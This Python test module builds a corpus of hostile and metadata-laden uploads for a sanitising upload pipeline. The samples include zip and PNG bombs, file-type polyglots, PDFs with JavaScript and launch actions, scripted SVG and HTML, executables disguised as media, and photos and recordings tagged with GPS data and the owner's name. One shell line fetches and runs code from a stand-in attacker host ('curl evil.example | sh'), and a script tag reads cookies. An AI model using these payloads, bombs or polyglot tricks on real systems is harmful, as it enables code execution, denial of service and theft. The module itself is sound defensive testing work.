"""A corpus of bad uploads, made in code (no binary files in the repository): bombs,
polyglots, wrong extensions, truncated and empty files, a password-protected PDF, PDFs that
run script, SVG with script, photos, recordings and videos full of metadata. Each entry names
the bytes that must never be stored: an upload is either refused or stored sanitised, never as
it came."""

import io
import struct
import zipfile
from dataclasses import dataclass

import pypdf
from PIL import Image, PngImagePlugin
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from tests.reporting import samples


@dataclass
class Bad:
    kind: str
    name: str
    data: bytes
    # Bytes that betray the hostile part: never in a stored copy.
    markers: tuple = ()


PAYLOAD = b"#!/bin/sh\ncurl evil.example | sh\n"
SCRIPT = b"<script>alert(document.cookie)</script>"


def zip_of(files, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def zip_bomb():
    """20 MB of zeros in some twenty kilobytes, five times over."""
    return zip_of({f"{n}.txt": b"\x00" * 20_000_000 for n in range(5)})


def jpeg(size=(64, 48), **save):
    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(out, format="JPEG", **save)
    return out.getvalue()


def png(size=(40, 30)):
    out = io.BytesIO()
    Image.new("RGB", size, "blue").save(out, format="PNG")
    return out.getvalue()


def jpeg_with_huge_dimensions():
    """A small JPEG whose frame header claims 65,000 x 65,000 pixels."""
    data = bytearray(jpeg())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(data)


def gif():
    out = io.BytesIO()
    Image.new("P", (20, 20)).save(out, format="GIF")
    return out.getvalue()


def jpeg_full_of_metadata():
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x013B] = "Reporter Name"
    exif.get_ifd(0x8825).update({1: "N", 2: (39.0, 54.0, 26.0), 3: "E", 4: (116.0, 23.0, 2.0)})
    icc = b"\x00\x00\x02\x0cICCPROFILE-ICC-SECRET" + b"\x00" * 100
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "red").save(
        out, format="JPEG", exif=exif, comment=b"COMMENT-SECRET", icc_profile=icc
    )
    data = out.getvalue()
    # An XMP packet in an APP1 segment right after SOI.
    xmp = b"http://ns.adobe.com/xap/1.0/\x00" + samples.XMP
    return data[:2] + b"\xff\xe1" + struct.pack(">H", len(xmp) + 2) + xmp + data[2:]


def png_with_chunks_and_trailer():
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Reporter Name")
    info.add_itxt("XML:com.adobe.xmp", samples.XMP.decode())
    out = io.BytesIO()
    Image.new("RGB", (30, 30), "green").save(out, format="PNG", pnginfo=info)
    return out.getvalue() + SCRIPT


def pdf(build):
    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=200, height=200)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def js_action(code):
    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(code),
        }
    )


def pdf_with_open_action_script():
    def build(writer):
        action = writer._add_object(js_action("app.alert('OPEN-ACTION-SCRIPT');"))
        writer._root_object[NameObject("/OpenAction")] = action

    return pdf(build)


def pdf_with_page_script():
    def build(writer):
        page = writer.pages[0]
        page[NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): js_action("app.alert('PAGE-OPEN-SCRIPT');")}
        )

    return pdf(build)


def pdf_with_launch_link():
    def build(writer):
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 100, 100)]),
                NameObject("/A"): DictionaryObject(
                    {
                        NameObject("/S"): NameObject("/Launch"),
                        NameObject("/F"): TextStringObject("C:\\Windows\\LAUNCHED.exe"),
                    }
                ),
                NameObject("/AA"): DictionaryObject(
                    {NameObject("/E"): js_action("app.alert('ANNOT-ENTER-SCRIPT');")}
                ),
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])

    return pdf(build)


def pdf_with_attachment():
    return pdf(lambda w: w.add_attachment("ATTACHED-PAYLOAD.sh", PAYLOAD))


def encrypted_pdf():
    return pdf(lambda w: w.encrypt("secret-password", algorithm="AES-256"))


def svg_with_script():
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" '
        b'height="10">' + SCRIPT + b"</svg>"
    )


def windows_executable():
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00" + PAYLOAD


def office_macro_document():
    return zip_of(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:document/>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1AutoOpen Shell",
        }
    )


def ole_document():
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"AutoOpen Shell"


def amr_with_payload():
    """The AMR magic, then a script: passes a check of the first bytes only."""
    return b"#!AMR\n" + SCRIPT + PAYLOAD


def wav_with_zip():
    return samples.wav() + zip_of({"run.sh": PAYLOAD})


def wav_with_metadata():
    """A recording whose INFO chunk names the device owner."""
    data = samples.wav()
    info = b"INFOIART" + struct.pack("<I", 14) + b"Reporter Name\x00"
    chunk = b"LIST" + struct.pack("<I", len(info)) + info
    body = data[12:] + chunk
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WAVE" + body


def mp4_header_then_script():
    return b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + PAYLOAD


def media_corpus(zipped):
    """Recordings and videos as phones and apps tag them, with something appended, cut,
    empty, or claiming to last for decades."""
    return [
        Bad(
            "MP4 with its GPS location (©xyz), title and handler name",
            "VID_0001.mp4",
            samples.mp4_with_gps(),
            samples.MEDIA_SECRETS,
        ),
        Bad(
            "MOV with Apple's location, make and model keys and QuickTime atoms",
            "IMG_0002.MOV",
            samples.mov_with_gps(),
            samples.MEDIA_SECRETS,
        ),
        Bad(
            "MP3 with ID3v2 and ID3v1 tags and a cover photo with GPS",
            "voice.mp3",
            samples.mp3_with_tags(),
            samples.MEDIA_SECRETS,
        ),
        Bad(
            "M4A with iTunes tags and cover art",
            "memo.m4a",
            samples.m4a_with_tags(),
            samples.MEDIA_SECRETS,
        ),
        Bad(
            "MP4 with an archive and a script appended",
            "clip.mp4",
            samples.video() + zipped + PAYLOAD,
            (b"PK\x03\x04", b"curl evil"),
        ),
        Bad(
            "MP3 with a script appended",
            "voice.mp3",
            samples.audio("mp3", "libmp3lame", samples.MEDIA_TAGS) + SCRIPT + PAYLOAD,
            (b"<script", b"curl evil", b"Reporter Name"),
        ),
        Bad(
            "MP4 cut short after its tables",
            "cut.mp4",
            samples.cut_before_last_packet(samples.moov_first(samples.video(frames=30))),
        ),
        Bad(
            "MOV without a track",
            "empty.mov",
            samples.with_box_in_moov(samples.video("mov"), b"", drop=(b"trak",)),
        ),
        Bad(
            "MP4 claiming to last 68 years",
            "forever.mp4",
            samples.with_durations(samples.video(), 0x7FFFFFFF),
        ),
    ]


def corpus():
    zipped = zip_of({"run.sh": PAYLOAD})
    heic = samples.heic()
    return [
        *media_corpus(zipped),
        Bad("zero-byte file", "empty.jpg", b""),
        Bad("zip bomb", "photos.zip", zip_bomb(), (b"PK\x03\x04",)),
        Bad("zip bomb named as a photo", "photo.jpg", zip_bomb(), (b"PK\x03\x04",)),
        Bad("PNG decompression bomb", "bomb.png", samples.png_bomb()),
        Bad("JPEG claiming 65000 x 65000 pixels", "huge.jpg", jpeg_with_huge_dimensions()),
        Bad("JPEG/ZIP polyglot", "photo.jpg", jpeg() + zipped, (b"PK\x03\x04", b"evil")),
        Bad(
            "PNG with script after IEND and text chunks",
            "a.png",
            png_with_chunks_and_trailer(),
            (b"<script", b"Reporter Name", b"XMPSECRET"),
        ),
        Bad("PDF/ZIP polyglot", "doc.pdf", pdf(lambda w: None) + zipped, (b"PK\x03\x04",)),
        Bad("GIF with a ZIP behind it (GIFAR)", "a.gif", gif() + zipped, (b"PK\x03\x04",)),
        Bad(
            "PDF with an open-action script",
            "a.pdf",
            pdf_with_open_action_script(),
            (b"OPEN-ACTION-SCRIPT", b"/JavaScript"),
        ),
        Bad(
            "PDF with a page-open script",
            "b.pdf",
            pdf_with_page_script(),
            (b"PAGE-OPEN-SCRIPT", b"/JavaScript"),
        ),
        Bad(
            "PDF with a launch link and an annotation script",
            "c.pdf",
            pdf_with_launch_link(),
            (b"LAUNCHED", b"/Launch", b"ANNOT-ENTER-SCRIPT"),
        ),
        Bad(
            "PDF with an attached file",
            "d.pdf",
            pdf_with_attachment(),
            (b"ATTACHED-PAYLOAD", b"curl evil"),
        ),
        Bad("password-protected PDF", "locked.pdf", encrypted_pdf()),
        Bad(
            "truncated PDF",
            "cut.pdf",
            pdf_with_open_action_script()[:300],
            (b"OPEN-ACTION-SCRIPT",),
        ),
        Bad("truncated JPEG", "cut.jpg", jpeg((400, 300))[:700]),
        Bad("truncated PNG", "cut.png", png((300, 300))[:60]),
        Bad("SVG with script", "drawing.svg", svg_with_script(), (b"<script",)),
        Bad("SVG with script named as a photo", "photo.jpg", svg_with_script(), (b"<script",)),
        Bad(
            "HTML named as a photo", "photo.jpg", b"<!doctype html><html>" + SCRIPT, (b"<script",)
        ),
        Bad("Windows program named as a PDF", "report.pdf", windows_executable(), (b"MZ",)),
        Bad("Linux program named as a video", "clip.mp4", samples.ELF_EXECUTABLE, (b"\x7fELF",)),
        Bad("shell script named as a recording", "voice.mp3", PAYLOAD, (b"curl evil",)),
        Bad("Word document with macros", "report.docx", office_macro_document(), (b"vbaProject",)),
        Bad("old Office document", "report.doc", ole_document(), (b"AutoOpen",)),
        Bad(
            "AMR header then a script", "voice.amr", amr_with_payload(), (b"<script", b"curl evil")
        ),
        Bad("WAV/ZIP polyglot", "voice.wav", wav_with_zip(), (b"PK\x03\x04", b"curl evil")),
        Bad("WAV naming its owner", "voice.wav", wav_with_metadata(), (b"Reporter Name",)),
        Bad("MP4 header then a script", "clip.mp4", mp4_header_then_script(), (b"curl evil",)),
        Bad(
            "HEIC with GPS and device EXIF",
            "IMG_0001.heic",
            heic,
            (b"PhoneMaker", b"Reporter Name"),
        ),
        Bad(
            "JPEG with GPS, device, XMP, ICC and comment",
            "IMG_0002.jpg",
            jpeg_full_of_metadata(),
            (b"PhoneMaker", b"Reporter Name", b"XMPSECRET", b"ICC-SECRET", b"COMMENT-SECRET"),
        ),
        Bad("WebP with EXIF", "a.webp", samples.webp(), (b"PhoneMaker", b"Reporter Name")),
        Bad("TIFF (not accepted)", "scan.tiff", tiff(), ()),
    ]


def tiff():
    out = io.BytesIO()
    Image.new("RGB", (10, 10)).save(out, format="TIFF")
    return out.getvalue()
